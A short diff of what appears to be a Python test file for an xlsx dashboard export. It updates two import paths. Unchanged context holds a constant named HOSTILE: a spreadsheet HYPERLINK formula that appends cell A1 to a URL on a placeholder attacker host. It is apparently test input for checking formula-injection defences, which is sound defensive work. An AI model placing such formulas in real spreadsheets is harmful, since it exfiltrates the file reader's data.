@@ -4,8 +4,8 @@ import io
 import zipfile
 from datetime import date
 
-from insights.dashboard_params import DashboardParams
-from insights.dashboard_xlsx import Sheet, dashboard_workbook
+from insights.dashboards.params import DashboardParams
+from insights.dashboards.xlsx import Sheet, dashboard_workbook
 from insights.periods import Period
 
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
